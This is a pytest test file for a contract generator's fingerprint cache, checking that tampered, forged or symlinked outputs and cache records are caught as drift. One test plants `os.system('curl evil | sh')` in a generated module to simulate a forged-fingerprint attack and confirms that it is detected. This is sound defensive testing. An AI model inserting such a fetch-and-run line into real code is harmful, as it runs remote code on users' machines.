"""`check` answers from a cache of what this machine verified, outside the repository, and
only when the full comparison would give the same answer; anything else, a fresh clone
included, is compared in full. Nothing under the output folder records the tool."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path

import pytest
from conftest import ROOT, SCHEMAS, run_cli, run_process, tree_bytes
from mcp_contracts_generator import api, options, write
from mcp_contracts_generator.findings.finding import Outcome
from mcp_contracts_generator.fingerprint import CACHE_VARIABLE, cache_folder, files_digest, installed_version
from mcp_contracts_generator.resources import META_SCHEMAS_DIR, TEMPLATES_DIR

pytestmark = pytest.mark.xdist_group("fingerprint")  # one jsonrpc render, shared through api's plans

# The file an older version wrote into the output folder, and `check` answered from.
LEGACY = ".mcp-contracts-fingerprint.json"


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cache folder of each test's own (missing until the tool makes it)."""
    folder = tmp_path / "cache"
    monkeypatch.setenv(CACHE_VARIABLE, str(folder))
    return folder


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project with one contract (jsonrpc), generated."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        '[tool.mcp-contracts]\nschemas = "schemas"\noutput = "generated"\npackage = "pkg"\n', encoding="utf-8"
    )
    shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", project / "schemas" / "contracts" / "jsonrpc")
    result = run_cli("generate", cwd=project)
    assert result.returncode == 0, result.stderr
    return project


def _check(project: Path, *, full: bool = False) -> Outcome:
    before = Path.cwd()
    os.chdir(project)
    try:
        return api.run(options.Check(full=full))
    finally:
        os.chdir(before)


def _facts(outcome: Outcome) -> object:
    facts = outcome.facts
    if not outcome.loaded:
        return [str(f) for f in outcome.findings]
    return facts.changed, facts.missing, facts.extra, facts.diffs  # type: ignore[attr-defined]


def _records(cache: Path) -> list[Path]:
    return sorted(p for p in cache.iterdir() if p.suffix == ".json") if cache.is_dir() else []


def test_generate_records_every_output_in_the_cache_and_nothing_in_the_output(project: Path, cache: Path) -> None:
    out = project / "generated"
    [record] = _records(cache)
    document = json.loads(record.read_bytes())
    assert document["outputs"] == {
        path: hashlib.sha256(content).hexdigest() for path, content in tree_bytes(out).items()
    }
    assert document["format"] == 2 and document["inputs"]["settings"]["package"] == "pkg"
    assert document["inputs"]["tool"]["versions"]["black"] == version("black")
    assert not (out / LEGACY).exists()
    assert oct(cache.stat().st_mode & 0o777) == "0o700" and oct(record.stat().st_mode & 0o777) == "0o600"


def test_the_cache_folder_is_the_users_cache_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv(CACHE_VARIABLE)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert cache_folder() == tmp_path / "xdg" / "mcp-contracts"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert cache_folder() == tmp_path / "home" / ".cache" / "mcp-contracts"
    monkeypatch.setenv(CACHE_VARIABLE, "relative/cache")
    assert cache_folder() is None


def test_check_answers_from_the_cache_when_nothing_changed(project: Path) -> None:
    outcome = _check(project)
    assert outcome.facts.answered == "cache"
    assert outcome.facts.clean
    full = _check(project, full=True)
    assert full.facts.answered == "comparison"
    assert _facts(full) == _facts(outcome) == ([], [], [], {})


def test_a_fresh_cache_compares_in_full_then_answers_from_what_it_verified(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fresh clone, or CI: nothing verified on this machine, so the first check renders."""
    fresh = tmp_path / "fresh-cache"
    monkeypatch.setenv(CACHE_VARIABLE, str(fresh))
    first = _check(project)
    assert first.facts.answered == "comparison" and first.facts.clean
    assert len(_records(fresh)) == 1  # a clean comparison is recorded
    assert _check(project).facts.answered == "cache"


def test_the_forged_fingerprint_attack_is_drift(project: Path) -> None:
    """The attack of issue 29: code appended to a generated module, and its new sha256 put in
    a fingerprint committed in the output folder, in the shape an older version answered from."""
    from mcp_contracts_generator import fingerprint

    out = project / "generated"
    module = out / "python" / "pkg" / "jsonrpc" / "models.py"
    module.write_bytes(module.read_bytes() + b"\nimport os; os.system('curl evil | sh')\n")
    before = Path.cwd()
    os.chdir(project)
    try:
        chosen = api.settings()
        assert not isinstance(chosen, list)
        forged_inputs = fingerprint.inputs(chosen)
    finally:
        os.chdir(before)
    outputs = {path: hashlib.sha256(content).hexdigest() for path, content in tree_bytes(out).items()}
    forged = {"about": "", "format": 1, "inputs": forged_inputs, "outputs": outputs}
    (out / LEGACY).write_text(json.dumps(forged, indent=2, sort_keys=True) + "\n", encoding="ascii")
    for args in (("check",), ("check", "--format", "github"), ("check", "--format", "json")):
        result = run_cli(*args, cwd=project)
        assert result.returncode == 1, (args, result.stdout)
        assert "models.py" in result.stdout and LEGACY in result.stdout
    generated = run_cli("generate", cwd=project)
    assert generated.returncode == 0 and f"removed  generated/{LEGACY}" in generated.stdout
    assert b"curl evil" not in module.read_bytes() and not (out / LEGACY).exists()


def test_a_tampered_output_after_a_cached_verdict_is_drift(project: Path) -> None:
    assert _check(project).facts.answered == "cache"
    path = project / "generated" / "python" / "pkg" / "jsonrpc" / "models.py"
    path.write_bytes(path.read_bytes() + b"# tampered\n")
    result = run_cli("check", cwd=project)
    assert result.returncode == 1 and "+# tampered" not in result.stdout and "-# tampered" in result.stdout
    assert _check(project).facts.answered == "comparison"


def test_an_output_made_a_symlink_to_the_same_bytes_after_a_cached_verdict_is_drift(project: Path) -> None:
    """The cache compares entries taken with lstat: a symlink to a file of the right bytes is not it."""
    path = project / "generated" / "docs" / "jsonrpc.md"
    copy = project / "copy.md"
    copy.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(copy)
    outcome = _check(project)
    assert outcome.facts.answered == "comparison" and outcome.facts.clean is False
    assert outcome.facts.changed == ["docs/jsonrpc.md"]
    [drifted] = outcome.findings
    assert drifted.file.endswith("/docs/jsonrpc.md") and "(it is a symlink, not read)" in drifted.message


def test_the_cache_answer_imports_no_loader_renderer_or_formatter(project: Path) -> None:
    """Proof without a clock: a real process, its modules listed after `check` answered."""
    script = (
        "import json, sys\n"
        "from mcp_contracts_generator.cli import main\n"
        "sys.argv = ['mcp-contracts', 'check', '--format', 'json']\n"
        "try:\n    main()\nexcept SystemExit as exit:\n    assert not exit.code, exit.code\n"
        "print(json.dumps(sorted(sys.modules)), file=sys.stderr)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, check=False, timeout=120
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["facts"]["answered"] == "cache"
    modules = json.loads(result.stderr.splitlines()[-1])
    heavy = {"jinja2", "black", "datamodel_code_generator", "ruamel", "jsonschema", "jsonschema_rs", "referencing"}
    assert sorted(m for m in modules if m.split(".")[0] in heavy) == []
    ours = {m.removeprefix("mcp_contracts_generator.") for m in modules if m.startswith("mcp_contracts_generator.")}
    never = {"load", "render", "render.plan", "model", "runtime", "validate", "lint", "breaking"}
    assert not ours & (never | {"serving", "client", "conformance", "importing"})


def test_the_api_answer_imports_no_pydantic(project: Path) -> None:
    """Through the API, nothing of the rendering side is imported, pydantic neither."""
    script = (
        "import json, sys\n"
        "from mcp_contracts_generator import api\n"
        "from mcp_contracts_generator import options\n"
        "outcome = api.run(options.Check())\n"
        "assert outcome.facts.answered == 'cache' and outcome.facts.clean, outcome\n"
        "print(json.dumps(sorted(sys.modules)))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, check=False, timeout=120
    )
    assert result.returncode == 0, result.stderr
    modules = json.loads(result.stdout)
    assert [m for m in modules if m.split(".")[0] in {"pydantic", "jinja2", "black", "msgspec"}] == []


def _edit_source(project: Path) -> None:
    envelope = project / "schemas" / "contracts" / "jsonrpc" / "envelope.schema.json"
    text = envelope.read_text(encoding="utf-8")
    envelope.write_text(text.replace('"description": "', '"description": "A', 1), encoding="utf-8")


def _space_in_source(project: Path) -> None:  # a byte that changes no output
    envelope = project / "schemas" / "contracts" / "jsonrpc" / "envelope.schema.json"
    envelope.write_bytes(envelope.read_bytes() + b"\n")


def _edit_output(project: Path) -> None:
    path = project / "generated" / "docs" / "jsonrpc.md"
    path.write_bytes(path.read_bytes().replace(b"#", b"%", 1))


def _delete_output(project: Path) -> None:
    (project / "generated" / "manifests" / "jsonrpc.json").unlink()


def _extra_output(project: Path) -> None:
    (project / "generated" / "docs" / "notes.md").write_text("stray\n", encoding="utf-8")


def _extra_hidden_output(project: Path) -> None:
    (project / "generated" / "python" / ".stray").write_text("stray\n", encoding="utf-8")


def _legacy_fingerprint(project: Path) -> None:  # what an older version left in the output
    (project / "generated" / LEGACY).write_text('{"format": 1, "inputs": null, "outputs": {}}\n', encoding="ascii")


def _forge_the_cache(project: Path) -> None:  # a record whose digest is not the file's: no answer
    _edit_output(project)
    [record] = _records(Path(os.environ[CACHE_VARIABLE]))
    document = json.loads(record.read_bytes())
    content = (project / "generated" / "docs" / "jsonrpc.md").read_bytes()
    document["outputs"]["docs/jsonrpc.md"] = hashlib.sha256(content + b"x").hexdigest()
    record.write_text(json.dumps(document), encoding="ascii")


def _corrupt_the_cache(project: Path) -> None:
    for record in _records(Path(os.environ[CACHE_VARIABLE])):
        record.write_bytes(b"[" * 100_000)


def _change_package(project: Path) -> None:
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text(encoding="utf-8").replace('"pkg"', '"pkh"'), encoding="utf-8")


def _tighten_a_limit(project: Path) -> None:  # the sources no longer load: exit 2, on the slow path
    with (project / "pyproject.toml").open("a", encoding="utf-8") as file:
        file.write("\n[tool.mcp-contracts.limits]\nsource_bytes = 100\n")


def _symlink_in_sources(project: Path) -> None:  # never answered from the cache
    (project / "schemas" / "link").symlink_to(project / "pyproject.toml")


EDITS: dict[str, tuple[Callable[[Path], None], str]] = {
    "source": (_edit_source, "drift"),
    "source-byte-without-output": (_space_in_source, "clean"),
    "output": (_edit_output, "drift"),
    "deleted-output": (_delete_output, "drift"),
    "extra-output": (_extra_output, "drift"),
    "extra-hidden-output": (_extra_hidden_output, "drift"),
    "legacy-fingerprint": (_legacy_fingerprint, "drift"),
    "forged-cache-record": (_forge_the_cache, "drift"),
    "corrupt-cache-record": (_corrupt_the_cache, "clean"),
    "setting": (_change_package, "drift"),
    "limit": (_tighten_a_limit, "invalid"),
    "symlink-in-sources": (_symlink_in_sources, "clean"),
}


@pytest.mark.parametrize("edit", EDITS)
def test_every_change_is_found_as_the_full_comparison_finds_it(project: Path, edit: str) -> None:
    change, expected = EDITS[edit]
    change(project)
    outcome, full = _check(project), _check(project, full=True)
    assert outcome.facts.answered == full.facts.answered == "comparison"
    assert _facts(outcome) == _facts(full)
    found = "invalid" if not outcome.loaded else "drift" if not outcome.facts.clean else "clean"  # type: ignore[attr-defined]
    assert found == expected, _facts(outcome)


def test_a_broken_source_is_exit_2_with_its_file_and_line(project: Path) -> None:
    envelope = project / "schemas" / "contracts" / "jsonrpc" / "envelope.schema.json"
    envelope.write_bytes(envelope.read_bytes().replace(b"{", b"{,", 2))
    result = run_cli("check", cwd=project)
    assert result.returncode == 2
    assert re.search(r"schemas/contracts/jsonrpc/envelope.schema.json:\d+: ", result.stderr), result.stderr
    assert result.stderr.endswith("1 problem(s); nothing was compared.\n")


def test_sources_that_read_a_folder_outside_are_always_compared_in_full(project: Path) -> None:
    """A `references:` folder outside the sources is not in the inputs' fingerprint: nothing is
    cached, and `check` renders, so an edit there is found."""
    shared = project / "shared"
    shared.mkdir()
    (shared / "word.json").write_text('{"type": "string", "description": "A word."}', encoding="utf-8")
    folder = project / "schemas" / "contracts" / "jsonrpc"
    with (folder / "contract.yaml").open("a", encoding="utf-8") as file:
        file.write("references:\n  https://example.com/shared/: ../../../shared\n")
    envelope = json.loads((folder / "envelope.schema.json").read_bytes())
    envelope["$defs"]["Word"] = {"$ref": "https://example.com/shared/word.json"}
    (folder / "envelope.schema.json").write_text(json.dumps(envelope, indent=2), encoding="utf-8")
    assert run_cli("generate", cwd=project).returncode == 0
    clean = _check(project)
    assert clean.facts.answered == "comparison" and clean.facts.clean
    (shared / "word.json").write_text('{"type": "string", "description": "A longer word."}', encoding="utf-8")
    outcome = _check(project)
    assert outcome.facts.clean is False, _facts(outcome)


def test_an_edited_template_override_is_found(project: Path) -> None:
    templates = project / "templates"
    templates.mkdir()
    (templates / "README.md.jinja").write_bytes((TEMPLATES_DIR / "README.md.jinja").read_bytes())
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text(encoding="utf-8") + 'templates = "templates"\n', encoding="utf-8")
    assert run_cli("generate", cwd=project).returncode == 0
    assert _check(project).facts.answered == "cache"
    (templates / "README.md.jinja").write_bytes((TEMPLATES_DIR / "README.md.jinja").read_bytes() + b"More.\n")
    outcome, full = _check(project), _check(project, full=True)
    assert outcome.facts.answered == "comparison"
    assert _facts(outcome) == _facts(full)
    assert outcome.facts.changed == ["README.md"]  # type: ignore[attr-defined]


def test_bytecode_in_the_output_keeps_the_cache_answer(project: Path) -> None:
    cache = project / "generated" / "python" / "pkg" / "__pycache__"
    cache.mkdir()
    (cache / "__init__.cpython-311.pyc").write_bytes(b"\x00")
    (project / "generated" / "python" / "pkg" / "stray.pyc").write_bytes(b"\x00")
    assert _check(project).facts.answered == "cache"


def test_check_full_flag_compares_in_full(project: Path) -> None:
    fast = run_cli("check", "--format", "json", cwd=project)
    full = run_cli("check", "--full", "--format", "json", cwd=project)
    assert fast.returncode == full.returncode == 0
    fast_facts, full_facts = json.loads(fast.stdout)["facts"], json.loads(full.stdout)["facts"]
    assert fast_facts["answered"] == "cache"
    assert full_facts["answered"] == "comparison"
    assert {**fast_facts, "answered": None} == {**full_facts, "answered": None}


def test_a_generate_that_fails_to_write_records_nothing(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A write that fails leaves the old tree, and the cache as it was: the next check renders."""
    out = project / "generated"
    before = tree_bytes(out)
    _edit_source(project)
    records = {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))}

    class Failing(write.FileSystem):
        def write(self, path: Path, content: bytes) -> None:
            if path.name == "README.md":
                raise OSError(5, "Input/output error", str(path))
            super().write(path, content)

    monkeypatch.setattr(write, "FS", Failing())
    result = run_cli("generate", cwd=project)
    assert result.returncode == 2
    assert tree_bytes(out) == before
    assert {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))} == records
    outcome = _check(project)
    assert outcome.facts.answered == "comparison" and outcome.facts.clean is False


@pytest.mark.parametrize("kind", ["symlink", "shared", "file", "other-owner"])
def test_a_cache_folder_not_ours_is_not_used(project: Path, tmp_path: Path, kind: str) -> None:
    """A cache folder that is a symlink, writable by others, a file or another user's: every
    check compares in full, nothing is written there, and nothing fails."""
    folder = Path(os.environ[CACHE_VARIABLE])
    real = tmp_path / "real-cache"
    shutil.move(folder, real)
    if kind == "symlink":
        folder.symlink_to(real)
    elif kind == "shared":
        shutil.move(real, folder)
        folder.chmod(0o777)
    elif kind == "file":
        folder.write_text("not a folder\n", encoding="utf-8")
    else:
        shutil.move(real, folder)
        os.chown(folder, 12345, 12345) if os.geteuid() == 0 else pytest.skip("needs root to give a folder away")
    records = {p.name: p.read_bytes() for p in _records(real)}
    for _ in range(2):
        outcome = _check(project)
        assert outcome.facts.answered == "comparison" and outcome.facts.clean
    assert run_cli("generate", cwd=project).returncode == 0
    assert {p.name: p.read_bytes() for p in _records(real)} == records


def test_a_cache_record_that_is_a_symlink_or_a_fifo_is_not_read(project: Path) -> None:
    folder = Path(os.environ[CACHE_VARIABLE])
    [record] = _records(folder)
    good = record.read_bytes()
    (folder / "elsewhere.txt").write_bytes(good)
    record.unlink()
    record.symlink_to(folder / "elsewhere.txt")
    assert _check(project).facts.answered == "comparison"
    record.unlink()
    os.mkfifo(record)
    assert _check(project).facts.answered == "comparison"  # not opened for reading: no hang
    record.unlink()
    record.write_bytes(good)
    assert _check(project).facts.answered == "cache"


def test_an_edit_of_the_generator_alone_changes_no_generated_file(tmp_path: Path) -> None:
    """A copy of the tool (the wheel's layout), then the same copy with its code edited and its
    version raised: `generate` finds nothing to change, and the full comparison is clean."""
    tool = tmp_path / "tool"
    package = tool / "mcp_contracts_generator"
    shutil.copytree(ROOT / "generator", package, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(TEMPLATES_DIR, package / "_data" / "templates")
    shutil.copytree(META_SCHEMAS_DIR, package / "_data" / "meta")
    project = tmp_path / "project"
    shutil.copytree(SCHEMAS / "contracts" / "jsonrpc", project / "schemas" / "contracts" / "jsonrpc")
    (project / "pyproject.toml").write_text("[tool.mcp-contracts]\n", encoding="utf-8")
    env = {"PYTHONPATH": str(tool)}
    where = run_process("--version", cwd=project, env=env)
    assert where.returncode == 0, where.stderr
    imported = subprocess.run(
        [sys.executable, "-c", "import mcp_contracts_generator as m; print(m.__file__)"],
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        check=True,
    )
    assert imported.stdout.strip() == str(package / "__init__.py")
    assert run_process("generate", cwd=project, env=env).returncode == 0
    before = tree_bytes(project / "generated")
    init = package / "__init__.py"
    init.write_text(re.sub(r'__version__ = "[^"]*"', '__version__ = "9.9.9"', init.read_text(encoding="utf-8")))
    (package / "cli.py").write_bytes((package / "cli.py").read_bytes() + b"# an edit of the tool alone\n")
    assert run_process("--version", cwd=project, env=env).stdout == "mcp-contracts 9.9.9\n"
    again = run_process("generate", cwd=project, env=env)
    assert again.returncode == 0 and again.stdout == "generated is up to date.\n", again.stdout
    assert tree_bytes(project / "generated") == before
    checked = run_process("check", "--full", cwd=project, env=env)
    assert checked.returncode == 0, checked.stdout


def test_the_tool_digest_is_the_same_for_a_checkout_and_a_wheel(tmp_path: Path) -> None:
    """The wheel's layout (templates and meta-schemas under the package's `_data/`), built from
    the checkout's files, digests as the checkout does; bytecode changes nothing."""
    package = ROOT / "generator"
    wheel = tmp_path / "mcp_contracts_generator"
    shutil.copytree(package, wheel, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(TEMPLATES_DIR, wheel / "_data" / "templates")
    shutil.copytree(META_SCHEMAS_DIR, wheel / "_data" / "meta")
    (wheel / "__pycache__").mkdir()
    (wheel / "__pycache__" / "cli.cpython-311.pyc").write_bytes(b"\x00")
    checkout = files_digest(package, TEMPLATES_DIR, META_SCHEMAS_DIR)
    assert files_digest(wheel, wheel / "_data" / "templates", wheel / "_data" / "meta") == checkout
    (wheel / "cli.py").write_bytes((wheel / "cli.py").read_bytes() + b"\n")
    assert files_digest(wheel, wheel / "_data" / "templates", wheel / "_data" / "meta") != checkout


def test_installed_versions_are_read_as_importlib_metadata_reads_them() -> None:
    for name in ("black", "datamodel-code-generator", "typer"):
        assert installed_version(name) == version(name)
    assert installed_version("no-such-distribution-anywhere") is None


@pytest.mark.slow  # pip builds a wheel: `pytest -m slow`
def test_a_built_wheel_digests_as_the_checkout(tmp_path: Path) -> None:
    """The wheel pip builds from this checkout, unpacked: its tool digest is the checkout's,
    and its metadata carries the version `__init__.py` writes."""
    import zipfile

    from mcp_contracts_generator import __version__

    source = tmp_path / "source"  # a copy: the build writes beside its sources
    for part in ("pyproject.toml", "README.md", "generator", "templates", "schemas/meta"):
        copy = shutil.copytree if (ROOT / part).is_dir() else shutil.copy
        (source / part).parent.mkdir(parents=True, exist_ok=True)
        copy(ROOT / part, source / part)
    built = subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--quiet", "-w", str(tmp_path / "dist"), str(source)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert built.returncode == 0, built.stderr
    [wheel] = (tmp_path / "dist").glob("mcp_contracts-*.whl")
    assert wheel.name.startswith(f"mcp_contracts-{__version__}-")
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(tmp_path / "unpacked")
    package = tmp_path / "unpacked" / "mcp_contracts_generator"
    assert files_digest(package, package / "_data" / "templates", package / "_data" / "meta") == files_digest(
        ROOT / "generator", TEMPLATES_DIR, META_SCHEMAS_DIR
    )


def test_the_pinned_renderers_are_those_pyproject_pins_exactly() -> None:
    import tomllib

    from mcp_contracts_generator.fingerprint import PINNED

    dependencies = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["dependencies"]
    assert sorted(d.split("==")[0] for d in dependencies if "==" in d) == sorted(PINNED)


# Found by the review of issue 19: each of these once made the fingerprint say "up to date"
# where the full comparison did not.


@pytest.mark.slow  # a command process per table
@pytest.mark.parametrize(
    "tool_table",
    [
        "[tool.ruff]\nline-length = 79\n",
        "[tool.black]\nline-length = 40\n",
        '[tool.isort]\nknown_first_party = ["pkg"]\n',
    ],
)
def test_a_formatter_table_of_the_project_changes_no_generated_file(tmp_path: Path, tool_table: str) -> None:
    """datamodel-code-generator's built-in formatter reads the nearest pyproject.toml of its
    settings path: ours, never the project's, so the output is the same wherever it runs."""
    (tmp_path / "pyproject.toml").write_text("[tool.mcp-contracts]\n", encoding="utf-8")
    assert run_cli("init", "demo-tool", cwd=tmp_path).returncode == 0
    assert run_cli("generate", cwd=tmp_path).returncode == 0
    before = {p: p.read_bytes() for p in (tmp_path / "generated").rglob("*") if p.is_file()}
    with (tmp_path / "pyproject.toml").open("a", encoding="utf-8") as config:
        config.write(tool_table)
    # new processes: this one's renders are kept by their inputs, which hold no formatter table
    assert run_process("check", "--full", cwd=tmp_path).returncode == 0
    assert run_process("generate", cwd=tmp_path).returncode == 0
    assert {p: p.read_bytes() for p in (tmp_path / "generated").rglob("*") if p.is_file()} == before


def test_an_empty_contract_folder_is_compared_in_full(project: Path) -> None:
    (project / "schemas" / "contracts" / "other").mkdir()
    fast, full = _check(project), _check(project, full=True)
    assert fast.facts.answered == "comparison" and _facts(fast) == _facts(full)
    assert any("contract.yaml" in str(f) for f in full.findings)


def test_a_contract_with_references_is_always_compared_in_full(project: Path) -> None:
    identity = project / "schemas" / "contracts" / "jsonrpc" / "contract.yaml"
    identity.write_text(identity.read_text(encoding="utf-8") + 'references: {"file:///vendor/": ../../../vendor}\n')
    (project / "vendor").mkdir()
    records = {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))}
    assert run_cli("generate", cwd=project).returncode == 0
    assert {p: p.read_bytes() for p in _records(Path(os.environ[CACHE_VARIABLE]))} == records  # nothing recorded
    assert _check(project).facts.answered == "comparison"
